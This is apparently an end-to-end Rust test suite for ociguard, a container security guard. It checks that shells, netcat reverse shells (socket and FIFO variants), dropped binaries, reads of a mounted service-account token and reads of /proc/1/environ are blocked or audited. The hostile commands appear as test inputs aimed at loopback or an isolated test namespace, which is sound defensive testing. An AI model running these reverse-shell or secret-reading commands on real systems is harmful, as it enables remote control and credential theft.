//! `[behavior]` end to end: real crun containers through ociguard, on an overlay rootfs as
//! engines mount one, registered by ociguard-hook with a real ociguardd whose guard answers
//! the kernel's fanotify permission events. Each case checks that the operation was blocked
//! (or, in audit mode, went ahead) and that the event names the container and the rule.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is the failure report

mod common;

use std::process::Command;
use std::time::{Duration, Instant};

use common::monitor::{bins, events_where, monitored_world, Bins, Monitor};
use common::netns::Net;
use common::overlay::{Overlay, READER};
use common::*;
use serde_json::{json, Value};

macro_rules! require_guard {
    () => {{
        if let Some(why) = common::cannot_run_containers() {
            eprintln!("skip: {}", why);
            return;
        }
        bins()
    }};
}

const TOKEN: &str = "eyJhbGciOiJSUzI1NiJ9.secret-token";
const SA_DIR: &str = "/var/run/secrets/kubernetes.io/serviceaccount";

fn world(b: &Bins, behavior: &str, mode: &str) -> World {
    let w = monitored_world(b, "");
    w.policy("guard.toml", &guard_policy(behavior, mode));
    w
}

fn guard_policy(behavior: &str, mode: &str) -> String {
    format!(
        "name = \"guard\"\nmode = \"{mode}\"\n[match]\nannotations = {{ \"org.example.guard\" = \"on\" }}\n[behavior]\nmode = \"required\"\n{behavior}\n"
    )
}

/// A spec on `ovl` running `args`, with a service-account token mounted.
fn guarded_spec(w: &World, ovl: &Overlay, args: &[&str]) -> Value {
    let mut s = spec("true");
    s["process"]["args"] = json!(args);
    s["root"] = json!({"path": ovl.merged, "readonly": false});
    s["annotations"]["org.example.guard"] = json!("on");
    w.mount_secret(&mut s, SA_DIR, "token", TOKEN);
    s
}

fn run(w: &World, id: &str, spec: &Value) -> (i32, String) {
    w.run_to_end(id, spec)
}

/// The behavior events of container `id`, waiting up to 5 s for at least `want`.
fn events(w: &World, b: &Bins, id: &str, want: usize) -> Vec<Value> {
    events_where(w, b, id, |kind| kind.starts_with("behavior"), want)
}

fn one(evs: &[Value], rule: &str) -> Value {
    evs.iter()
        .find(|e| e["detail"]["rule"] == rule)
        .unwrap_or_else(|| panic!("no {rule} event in {evs:#?}"))
        .clone()
}

const ALL: &str = "deny_shells = false\nreverse_shell = true\ndrop_exec = true\nprotect_secrets = true\nsecret_readers = [\"/usr/local/bin/busybox\"]\ndeny_exec = [\"/bin/telnet\"]";

#[test]
fn a_shell_spawned_by_the_entrypoint_and_one_exec_d_into_the_container_are_blocked() {
    let b = require_guard!();
    let w = world(&b, "deny_shells = true", "enforce");
    let _m = Monitor::started(&w, &b, &[]);
    let ovl = Overlay::new(&w, "sh");
    let (code, out) = run(
        &w,
        "bh-sh",
        &guarded_spec(&w, &ovl, &["/bin/env", "/bin/sh", "-c", "echo SHELL-RAN"]),
    );
    assert!(!out.contains("SHELL-RAN"), "{out}");
    assert_ne!(code, 0, "{out}");
    let evs = events(&w, &b, "bh-sh", 1);
    let e = one(&evs, "shell");
    assert_eq!(e["kind"], "behavior-denied");
    assert_eq!(e["detail"]["asked"], "/bin/sh");
    assert_eq!(e["detail"]["policy"], "guard");
    assert!(e["detail"]["policy_digest"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));
    assert_eq!(
        e["detail"]["argv"],
        json!(["/bin/sh", "-c", "echo SHELL-RAN"])
    );

    // ociguard exec ID sh, into a running container.
    let spec = guarded_spec(&w, &ovl, &["/bin/sleep", "30"]);
    let bundle = w.bundle("bh-exec", &spec);
    let out = w.ociguard_detached(&["create", "--bundle", bundle.to_str().unwrap(), "bh-exec"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(w.ociguard(&["start", "bh-exec"]).status.success());
    let out = w.ociguard(&["exec", "bh-exec", "/bin/sh", "-c", "echo EXEC-RAN"]);
    assert!(!stdout(&out).contains("EXEC-RAN"));
    assert!(!out.status.success());
    // An allowed tool still runs.
    let out = w.ociguard(&["exec", "bh-exec", "/bin/echo", "ECHO-RAN"]);
    assert!(stdout(&out).contains("ECHO-RAN"), "{}", stderr(&out));
    let _ = w.delegate(&["delete", "-f", "bh-exec"]);
    let e = one(&events(&w, &b, "bh-exec", 1), "shell");
    assert_eq!(e["detail"]["asked"], "/bin/sh");
}

#[test]
fn reverse_shells_over_a_socket_and_a_fifo_pipe_do_not_start() {
    let b = require_guard!();
    let w = world(&b, ALL, "enforce");
    let _m = Monitor::started(&w, &b, &[]);
    let ovl = Overlay::new(&w, "rs");
    // The connection itself is allowed (loopback in the container's namespace); the shell
    // nc would run with the socket as its terminal is not.
    let script = "ip link set lo up 2>/dev/null; nc -l -p 9000 >/dev/null </dev/null & sleep 0.3; \
                  nc 127.0.0.1 9000 -e /bin/sh; echo nc=$?; \
                  nc -l -p 9001 >/dev/null </dev/null & sleep 0.3; mkfifo /tmp/f; \
                  cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 9001 >/tmp/f; echo fifo=done";
    let (_, out) = run(
        &w,
        "bh-rs",
        &guarded_spec(&w, &ovl, &["/bin/sh", "-c", script]),
    );
    assert!(out.contains("fifo=done"), "{out}");
    let evs = events(&w, &b, "bh-rs", 2);
    let rs: Vec<&Value> = evs
        .iter()
        .filter(|e| e["detail"]["rule"] == "reverse-shell")
        .collect();
    assert!(rs.len() >= 2, "{evs:#?}");
    assert!(rs[0]["detail"]["stdio"][0]
        .as_str()
        .unwrap()
        .starts_with("socket:"));
    assert_eq!(rs[1]["detail"]["argv"], json!(["/bin/sh", "-i"]));
    assert!(rs.iter().all(|e| e["kind"] == "behavior-denied"));
}

#[test]
fn a_reverse_shell_to_a_test_host_the_allowlist_permits_connects_but_no_shell_answers() {
    let b = require_guard!();
    if !std::path::Path::new("/usr/sbin/nft").exists() {
        eprintln!("skip: nft not installed (scripts/host-setup.sh)");
        return;
    }
    let net = Net::new("rsh", 1);
    let host = net.hosts[0].clone();
    let w = world(&b, "", "enforce");
    w.policy(
        "guard.toml",
        &format!(
            "name = \"guard\"\n[match]\nannotations = {{ \"org.example.guard\" = \"on\" }}\n\
             [behavior]\nmode = \"required\"\nreverse_shell = true\n\
             [egress]\nmode = \"allowlist\"\n[[egress.allow]]\ncidr = \"{}\"\nprotocol = \"tcp\"\nports = [4444]\n",
            host.addr
        ),
    );
    let _m = Monitor::started(&w, &b, &[]);
    // The attacker's end on the test host: it sends a command the shell would run and keeps
    // what comes back.
    let busybox = rootfs().join("bin/busybox");
    let mut listener = Command::new("ip")
        .args(["netns", "exec", &host.netns])
        .arg(&busybox)
        .args(["nc", "-l", "-p", "4444"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write as _;
        let mut input = listener.stdin.take().unwrap();
        input.write_all(b"echo PWNED-$((6*7))\n").unwrap();
    }
    std::thread::sleep(Duration::from_millis(200));
    let ovl = Overlay::new(&w, "rsh");
    let mut spec = guarded_spec(&w, &ovl, &["/bin/nc", &host.addr, "4444", "-e", "sh"]);
    spec["linux"]["namespaces"] = json!([{"type": "pid"}, {"type": "network", "path": net.path()}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}]);
    let (code, out) = run(&w, "bh-rsh", &spec);
    assert_ne!(code, 0, "{out}");
    // The connection was made (the allowlist permits it): the listener saw it and ended.
    let deadline = Instant::now() + Duration::from_secs(5);
    while listener.try_wait().unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "the listener never got the connection: {out}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let answered = listener.wait_with_output().unwrap();
    assert!(!stdout(&answered).contains("PWNED-42"), "a shell answered");
    let e = one(&events(&w, &b, "bh-rsh", 1), "reverse-shell");
    assert_eq!(e["kind"], "behavior-denied");
    assert!(e["detail"]["stdio"][0]
        .as_str()
        .unwrap()
        .starts_with("socket:"));
    assert_eq!(e["detail"]["policy"], "guard");
}

#[test]
fn a_mounted_token_is_read_only_by_its_reader_and_a_dropped_binary_does_not_run() {
    let b = require_guard!();
    let w = world(&b, ALL, "enforce");
    let _m = Monitor::started(&w, &b, &[]);
    let ovl = Overlay::new(&w, "sec");
    let script = format!(
        "cat {SA_DIR}/token; echo cat=$?; {READER} cat {SA_DIR}/token; echo; echo reader=$?; \
         cp /bin/busybox /apache; /apache sh -c 'echo DROPPED'; echo drop=$?"
    );
    let (_, out) = run(
        &w,
        "bh-sec",
        &guarded_spec(&w, &ovl, &["/bin/sh", "-c", &script]),
    );
    assert!(out.contains("cat=1"), "{out}");
    assert_eq!(out.matches(TOKEN).count(), 1, "{out}");
    assert!(out.contains("reader=0"), "{out}");
    assert!(!out.contains("DROPPED"), "{out}");
    let evs = events(&w, &b, "bh-sec", 2);
    let s = one(&evs, "secret");
    assert_eq!(s["detail"]["exe"], "/bin/busybox");
    let d = one(&evs, "drop-exec");
    assert_eq!(d["detail"]["asked"], "/apache");
    assert_eq!(d["detail"]["not_in_image"], true);
}

#[test]
fn benign_work_makes_no_event_and_audit_reports_without_blocking() {
    let b = require_guard!();
    let w = world(&b, ALL, "enforce");
    let _m = Monitor::started(&w, &b, &[]);
    let ovl = Overlay::new(&w, "ok");
    // An httpd serving files, fetched in a loop of allowed tools (with a secret reader doing
    // its job): no reverse shell, no stray secret read, nothing dropped.
    let script = format!(
        "ip link set lo up; httpd -p 127.0.0.1:8080 -h /etc; \
         for i in 1 2 3 4 5 6 7 8; do wget -q -O- http://127.0.0.1:8080/passwd >/dev/null || echo wget-failed; \
         ls / >/dev/null; cat /etc/hostname >/dev/null; {READER} cat {SA_DIR}/token >/dev/null; done; echo benign-ok"
    );
    let (code, out) = run(
        &w,
        "bh-ok",
        &guarded_spec(&w, &ovl, &["/bin/sh", "-c", &script]),
    );
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("benign-ok") && !out.contains("wget-failed"),
        "{out}"
    );
    let ovl2 = Overlay::new(&w, "loop");
    let tools = [
        "/bin/find",
        "/etc",
        "-maxdepth",
        "1",
        "-exec",
        "/bin/ls",
        "-d",
        "{}",
        ";",
    ];
    let (code, out) = run(&w, "bh-loop", &guarded_spec(&w, &ovl2, &tools));
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("/etc/passwd"), "{out}");
    assert!(events(&w, &b, "bh-ok", 0).is_empty());
    assert!(events(&w, &b, "bh-loop", 0).is_empty());

    // Audit: the same shell runs, and is reported.
    let w2 = world(&b, "deny_shells = true", "audit");
    let _m2 = Monitor::started(&w2, &b, &[]);
    let ovl3 = Overlay::new(&w2, "audit");
    let (_, out) = run(
        &w2,
        "bh-audit",
        &guarded_spec(&w2, &ovl3, &["/bin/env", "/bin/sh", "-c", "echo SHELL-RAN"]),
    );
    assert!(out.contains("SHELL-RAN"), "{out}");
    let e = one(&events(&w2, &b, "bh-audit", 1), "shell");
    assert_eq!(e["kind"], "behavior-audit");
}

#[test]
fn what_cannot_be_held_is_refused_under_required_and_without_the_guard() {
    let b = require_guard!();
    // environ: procfs refuses fanotify permission events; only the BPF enforcer holds it.
    // With the fanotify backend forced, a required rule set naming it never starts, and
    // ociguard says so from what ociguardd wrote of the node's enforcers.
    let w = world(&b, "environ = true", "enforce");
    let _m = Monitor::started(&w, &b, &["--no-bpf"]);
    let ovl = Overlay::new(&w, "env");
    let (code, out) = run(&w, "bh-env", &guarded_spec(&w, &ovl, &["/bin/true"]));
    assert_ne!(code, 0);
    assert!(
        out.contains("requires [behavior] rule environ, which only the bpf enforcer holds"),
        "{out}"
    );
    assert!(out.contains("--no-bpf"), "{out}");
    assert!(!w.delegate(&["state", "bh-env"]).status.success());

    // A monitor without its guard cannot hold required rules: refused by the hook.
    let w = world(&b, "deny_shells = true", "enforce");
    let _m = Monitor::started(&w, &b, &["--no-guard"]);
    let ovl = Overlay::new(&w, "noguard");
    let spec = guarded_spec(&w, &ovl, &["/bin/true"]);
    let (code, out) = run(&w, "bh-noguard", &spec);
    assert_ne!(code, 0, "a required rule set ran without a guard: {out}");
    match *common::DELEGATE {
        // crun names the hook that failed, not what it said.
        common::Delegate::Crun => assert!(out.contains("error executing hook"), "{out}"),
        // libcontainer lets the hook's stderr through, then says a hook failed.
        common::Delegate::Builtin => {
            assert!(out.contains("failed hooks"), "{out}");
            assert!(
                out.contains("this ociguardd runs without its guard"),
                "{out}"
            );
        }
    }
    assert!(!w.delegate(&["state", "bh-noguard"]).status.success());

    // A rootfs that is not a filesystem of its own (a plain directory on the host's).
    let w = world(&b, "deny_shells = true", "enforce");
    let m = Monitor::started(&w, &b, &[]);
    let mut s = guarded_spec(&w, &ovl, &["/bin/true"]);
    s["root"] = json!({"path": rootfs(), "readonly": true});
    let (code, out) = run(&w, "bh-dir", &s);
    assert_ne!(code, 0);
    assert!(
        m.log().contains("is not a filesystem of its own"),
        "{out}\n{}",
        m.log()
    );
}

/// Did `m` load the BPF enforcer? Prints why not (a kernel without BTF or BPF tracing), for
/// the test to skip what only the enforcer holds.
fn has_bpf(m: &Monitor) -> bool {
    let log = m.log();
    if let Some(line) = log
        .lines()
        .find(|l| l.contains("bpf: enforcer unavailable"))
    {
        eprintln!("skip: {line}");
        return false;
    }
    assert!(log.contains("bpf: enforcer "), "{log}");
    true
}

/// Entries of a pinned BPF map (`bpftool map dump`).
fn map_entries(pins: &std::path::Path, map: &str) -> usize {
    let out = Command::new("bpftool")
        .args(["-j", "map", "dump", "pinned"])
        .arg(pins.join(map))
        .output()
        .expect("bpftool (scripts/host-setup.sh installs it)");
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice::<Vec<Value>>(&out.stdout)
        .unwrap()
        .len()
}

#[test]
fn another_process_s_environment_is_not_read_its_reader_is_killed_in_the_kernel() {
    let b = require_guard!();
    let w = world(&b, "environ = true", "enforce");
    let m = Monitor::started(&w, &b, &[]);
    assert!(
        m.log().contains("bpf: enforcer loaded and pinned"),
        "{}",
        m.log()
    );
    let ovl = Overlay::new(&w, "environ");
    // PID 1 (this sh) holds the variable; cat is another process. Its own environ is its own.
    let script = "cat /proc/1/environ; echo cat=$?; \
                  cat /proc/self/environ | grep -c HARVEST; echo own=$?";
    let mut spec = guarded_spec(&w, &ovl, &["/bin/sh", "-c", script]);
    spec["process"]["env"]
        .as_array_mut()
        .unwrap()
        .push(json!("HARVEST_ME=s3cr3t-env-value"));
    let (_, out) = run(&w, "bh-environ", &spec);
    assert!(!out.contains("s3cr3t-env-value"), "{out}");
    assert!(out.contains("cat=137"), "killed before it read: {out}");
    assert!(out.contains("own=0"), "{out}");
    let e = one(&events(&w, &b, "bh-environ", 1), "environ");
    assert_eq!(e["kind"], "behavior-denied");
    let d = &e["detail"];
    assert_eq!(d["enforcer"], "bpf");
    assert_eq!(d["action"], "kill");
    assert_eq!(d["hook"], "open");
    assert_eq!(d["path"], "/proc/1/environ");
    assert_eq!(d["comm"], "cat");
    assert_eq!(d["argv"], json!(["cat", "/proc/1/environ"]));
    assert_eq!(d["policy"], "guard");
    assert!(d["policy_digest"].as_str().unwrap().starts_with("sha256:"));
    assert_eq!(d["parent_comm"], "sh");

    // Audit: the same read goes ahead and is reported.
    let w2 = world(&b, "environ = true", "audit");
    let _m2 = Monitor::started(&w2, &b, &[]);
    let ovl2 = Overlay::new(&w2, "environ-audit");
    let mut spec = guarded_spec(
        &w2,
        &ovl2,
        &["/bin/sh", "-c", "cat /proc/1/environ; echo; echo cat=$?"],
    );
    spec["process"]["env"]
        .as_array_mut()
        .unwrap()
        .push(json!("HARVEST_ME=s3cr3t-env-value"));
    let (_, out) = run(&w2, "bh-environ-audit", &spec);
    assert!(
        out.contains("s3cr3t-env-value") && out.contains("cat=0"),
        "{out}"
    );
    let e = one(&events(&w2, &b, "bh-environ-audit", 1), "environ");
    assert_eq!(e["kind"], "behavior-audit");
    assert_eq!(e["detail"]["action"], "audit");
}

#[test]
fn the_loader_is_no_way_around_and_the_kernel_holds_while_ociguardd_is_down() {
    let b = require_guard!();
    let w = world(&b, "deny_shells = true", "enforce");
    let mut m = Monitor::started(&w, &b, &[]);
    let ovl = Overlay::with_loader(&w, "ld");
    let ld = "/lib64/ld-linux-x86-64.so.2";
    let (code, out) = run(
        &w,
        "bh-ld",
        &guarded_spec(&w, &ovl, &[ld, "/bin/dash", "-c", "echo LOADER-RAN"]),
    );
    assert!(!out.contains("LOADER-RAN"), "{out}");
    assert_ne!(code, 0, "{out}");
    let e = one(&events(&w, &b, "bh-ld", 1), "loader");
    assert_eq!(e["detail"]["enforcer"], "fanotify");
    assert_eq!(e["detail"]["asked"], ld);

    // ociguardd goes away, and its fanotify group with it; the pinned programs still hold.
    if !has_bpf(&m) {
        return;
    }
    let spec = guarded_spec(&w, &ovl, &["/bin/sleep", "30"]);
    let bundle = w.bundle("bh-down", &spec);
    let out = w.ociguard_detached(&["create", "--bundle", bundle.to_str().unwrap(), "bh-down"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(w.ociguard(&["start", "bh-down"]).status.success());
    m.kill9();
    let out = w.ociguard(&["exec", "bh-down", "/bin/sh", "-c", "echo DOWN-SHELL-RAN"]);
    assert!(!stdout(&out).contains("DOWN-SHELL-RAN"), "{}", stderr(&out));
    assert!(!out.status.success());
    let out = w.ociguard(&["exec", "bh-down", ld, "/bin/dash", "-c", "echo DOWN-LD-RAN"]);
    assert!(!stdout(&out).contains("DOWN-LD-RAN"), "{}", stderr(&out));
    let out = w.ociguard(&["exec", "bh-down", "/bin/echo", "DOWN-ECHO-RAN"]);
    assert!(stdout(&out).contains("DOWN-ECHO-RAN"), "{}", stderr(&out));

    // Back up: it keeps the programs, guards the container again, and the events that
    // waited in the ring buffer name it.
    m.start();
    let evs = events(&w, &b, "bh-down", 2);
    let _ = w.delegate(&["delete", "-f", "bh-down"]);
    assert!(
        m.log()
            .contains("kept running (pinned by an earlier ociguardd)"),
        "{}",
        m.log()
    );
    let shell = one(&evs, "shell");
    assert_eq!(shell["detail"]["enforcer"], "bpf");
    assert_eq!(shell["detail"]["action"], "kill");
    assert_eq!(shell["detail"]["path"], "/bin/sh");
    assert_eq!(
        shell["detail"]["argv"],
        json!(["/bin/sh", "-c", "echo DOWN-SHELL-RAN"])
    );
    let loader = one(&evs, "loader");
    assert_eq!(loader["detail"]["enforcer"], "bpf");
    assert_eq!(loader["detail"]["path"], ld);
}

#[test]
fn nothing_stays_guarded_after_many_containers_come_and_go() {
    let b = require_guard!();
    let w = world(&b, ALL, "enforce");
    let m = Monitor::started(&w, &b, &[]);
    let bpf = has_bpf(&m);
    if bpf {
        w.policy(
            "guard.toml",
            &guard_policy(&format!("{ALL}\nenviron = true"), "enforce"),
        );
    }
    let ovl = Overlay::new(&w, "many");
    let spec = guarded_spec(&w, &ovl, &["/bin/true"]);
    const N: usize = 1000;
    for i in 0..N {
        let (code, out) = run(&w, &format!("bh-many-{i}"), &spec);
        assert_eq!(code, 0, "{out}");
    }
    let log = m.log();
    let added = log.matches("under policy Some(\"guard\")").count();
    let released = log.matches(" released").count();
    assert_eq!(added, N, "{log}");
    assert_eq!(
        released, N,
        "every guard entry and its secret marks are released: {log}"
    );
    // And nothing of theirs is left in the kernel enforcer's maps.
    if !bpf {
        return;
    }
    assert_eq!(map_entries(m.bpf_pins(), "og_containers"), 0);
    assert_eq!(map_entries(m.bpf_pins(), "og_names"), 0);
}
